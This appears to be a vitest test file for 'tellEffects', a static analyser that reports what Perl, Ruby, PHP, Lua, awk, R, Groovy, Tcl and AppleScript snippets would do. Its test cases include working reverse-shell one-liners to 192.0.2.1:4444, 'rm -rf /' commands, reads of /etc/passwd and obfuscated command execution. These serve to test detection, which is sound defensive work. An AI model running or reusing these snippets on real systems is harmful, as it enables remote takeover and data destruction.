import { describe, expect, it } from "vitest";
import { tellEffects } from "./tell.ts";

const PERL: readonly (readonly [string, readonly string[]])[] = [
  ['system("id"); exec "a", "b"; `c`; qx{d}', ["sh id", "exec a b", "sh c", "sh d"]],
  ['&{"sys"."tem"}("id"); my $f = "system"; &$f("x"); $f->("y")', ["sh id", "sh x", "sh y"]],
  ['eval "system(q(id))"', ["sh id"]],
  ['eval pack("H*", "31")', ["eval unknown"]],
  ['unlink "a", "b"; use File::Path; rmtree("/x")', ["delete a", "delete b", "delete all /x"]],
  ['open(F, ">x"); print F "y"', ["write x", "write x: y"]],
  ['open my $f, "<", "/etc/passwd"', ["read /etc/passwd"]],
  ['open my $h, "|-", "sh"; print $h "id"', ["sh sh", "sh sh < id"]],
  ['sub r { my ($c) = @_; system($c) } r("id")', ["sh id"]],
  ['sub r { system(shift) } r("id")', ["sh id"]],
  ["for my $f (qw(a b)) { unlink $f }", ["delete a", "delete b"]],
  ["system(join '', map { chr($_) } (105, 100))", ["sh id"]],
  ['exec {"/bin/rm"} "x", "/"', ["exec /bin/rm /"]],
  ['s/a/system("id")/e', ["sh id"]],
  ["print <<EOT;\nsystem('no')\nEOT\nsystem('yes')", ["sh yes"]],
  ["chmod 0777, 'a'; rename 'b', 'c'", ["chmod 777 a", "mv b c"]],
  ['print "system(1)"; my %h = (system => 1, q => 2); s{a}{b}g; # system("x")', []],
  ['print "$1\\n" if /(\\d+)/; $h{$_}++; tr/a-z/A-Z/; print join(",", @F)', []],
  [
    'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(1,inet_aton($i)));' +
      'open(STDIN,">&S");exec("/bin/sh -i")',
    ["shell to \uFFFC \uFFFC", "sh /bin/sh -i"],
  ],
];

const RUBY: readonly (readonly [string, readonly string[]])[] = [
  [
    'system("id"); system "a", "b"; exec *%w(c d); `e`; %x(f)',
    ["sh id", "exec a b", "exec c d", "sh e", "sh f"],
  ],
  ['send(:system, "id"); Kernel.send("sys" + "tem", "x")', ["sh id", "sh x"]],
  ['method(:system).call("id"); Kernel.`("x")', ["sh id", "sh x"]],
  ["eval \"system('id')\"", ["sh id"]],
  ['eval ["31"].pack("H*")', ["eval unknown"]],
  ['system "di".reverse', ["sh id"]],
  ['FileUtils.rm_rf %w[a b]; File.delete("c")', ["delete all a", "delete all b", "delete c"]],
  ['File.open("x", "w") { |f| f.puts "y" }', ["write x", "write x: y"]],
  ["%w[a b].each { |c| system c }", ["sh a", "sh b"]],
  ['["a", "b"].each do |c|\n  system "echo #{c}"\nend', ["sh echo a", "sh echo b"]],
  ["def run(c)\n  if c\n    system(c)\n  end\nend\nrun 'id'", ["sh id"]],
  ["puts <<~EOT\n  system('no')\nEOT\nsystem('yes')", ["sh yes"]],
  ['eval URI.open("http://x.example").read', ["fetch http://x.example", "eval unknown"]],
  ['puts "system(1)" # system("x")\nputs [1, 2].map { |i| i * 2 }.sum', []],
  ['x = { a: 1, "b" => 2 }; puts x[:a], ENV["HOME"], ARGV.first', []],
  [
    'c=TCPSocket.new("192.0.2.1","4444");while(m=c.gets);IO.popen(m,"r"){|io|c.print io.read}end',
    ["sh \uFFFC", "fetch 192.0.2.1:4444 \uFFFC"],
  ],
  [
    'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)',
    ["shell to 192.0.2.1 4444", "sh /bin/sh -i <&\uFFFC"],
  ],
];

const PHP: readonly (readonly [string, readonly string[]])[] = [
  ["system('id'); `a`; passthru(\"b {$c} $d\");", ["sh id", "sh a", "sh b \uFFFC \uFFFC"]],
  [
    "$f = 'sys' . 'tem'; $f('id'); array_map('exec', ['x']); call_user_func('exec', 'y');",
    ["sh id", "sh x", "sh y"],
  ],
  ["eval(base64_decode('MQ=='));", ["eval unknown"]],
  [
    "unlink('a'); file_put_contents('b', 'c'); include 'd.php';",
    ["delete a", "write b: c", "read d.php"],
  ],
  ["file_get_contents('http://x.example');", ["fetch http://x.example"]],
  ["foreach (['a', 'b'] as $c) { system($c); }", ["sh a", "sh b"]],
  ["function r($c) { return shell_exec($c); } echo r('id');", ["sh id"]],
  ["<?php echo 1 ?> system('no') <?php system('yes');", ["sh yes"]],
  ["echo \"system('id')\"; // system('x')\n$n = array('k' => 1); printf('%s', PHP_VERSION);", []],
  [
    "$s=fsockopen('192.0.2.1',4444);proc_open('/bin/sh -i',[0=>$s],$p);",
    ["shell to 192.0.2.1 4444", "sh /bin/sh -i"],
  ],
];

const OTHERS: readonly (readonly [string, string, readonly string[]])[] = [
  [
    "lua",
    "os.execute('id'); os.execute 'a'; _G['os']['exec' .. 'ute']('b')",
    ["sh id", "sh a", "sh b"],
  ],
  ["lua", "local f = io.open('x', 'w'); f:write('y')", ["write x", "write x: y"]],
  ["lua", "load(\"os.execute('id')\")(); os.execute(string.char(105, 100))", ["sh id", "sh id"]],
  ["lua", "print('os.execute(1)') -- os.execute('x')\nprint([[os.execute('y')]])", []],
  ["awk", 'BEGIN { system("rm" " -rf /") }', ["sh rm -rf /"]],
  [
    "awk",
    '{ "id" | getline x; print $1, $2 > "out"; print | "sort" }',
    ["sh id", "write out: \uFFFC \uFFFC", "sh sort < "],
  ],
  ["awk", 'BEGIN { while ((getline l < "f") > 0) print l }', ["read f"]],
  ["gawk", 'BEGIN { f = "system"; @f("id") }', ["sh id"]],
  [
    "awk",
    '/foo|"bar/ { s += $3 > 1; a[$1]++ } END { printf "%.2f\\n", s / NR; print "system(1)" }',
    [],
  ],
  [
    "Rscript",
    'system("id"); unlink("a", recursive = TRUE); eval(parse(text = "system(\'x\')"))',
    ["sh id", "delete all a", "sh x"],
  ],
  ["Rscript", 'x <- paste0("i", "d"); system(x); cat("system(1)"); print(1:10)', ["sh id"]],
  [
    "groovy",
    '"id".execute(); ["a", "b"].execute(); new File("x").delete()',
    ["sh id", "exec a b", "delete x"],
  ],
  ["groovy", 'println "system".toUpperCase(); println([1, 2].collect { it * 2 })', []],
  [
    "tclsh",
    "exec rm -rf /; set c ls; if {1} { exec $c -l }; puts [exec id]",
    ["exec rm -rf /", "exec ls -l", "exec id"],
  ],
  [
    "tclsh",
    "# exec id\nputs {exec; id}; file delete -force /x; open out w",
    ["delete all /x", "write out"],
  ],
  ["osascript", 'do shell script "rm -rf " & "/"', ["sh rm -rf /"]],
  ["osascript", 'display dialog "do shell script"', []],
];

describe("perl", () => {
  it.each(PERL)("tells what is done by %s", (code, told) =>
    expect(tellEffects("perl", code)).toEqual(told),
  );
});

describe("ruby", () => {
  it.each(RUBY)("tells what is done by %s", (code, told) =>
    expect(tellEffects("ruby", code)).toEqual(told),
  );
});

describe("php", () => {
  it.each(PHP)("tells what is done by %s", (code, told) =>
    expect(tellEffects("php", code)).toEqual(told),
  );
});

describe("other languages", () => {
  it.each(OTHERS)("%s: tells what is done by %s", (program, code, told) =>
    expect(tellEffects(program, code)).toEqual(told),
  );

  it("knows what awk is given by -v", () => {
    expect(tellEffects("awk", "BEGIN { system(c) }", ["c=id"])).toEqual(["sh id"]);
  });

  it("reads nothing for a program that runs no code", () => {
    expect(tellEffects("cat", "system('id')")).toEqual([]);
  });
});
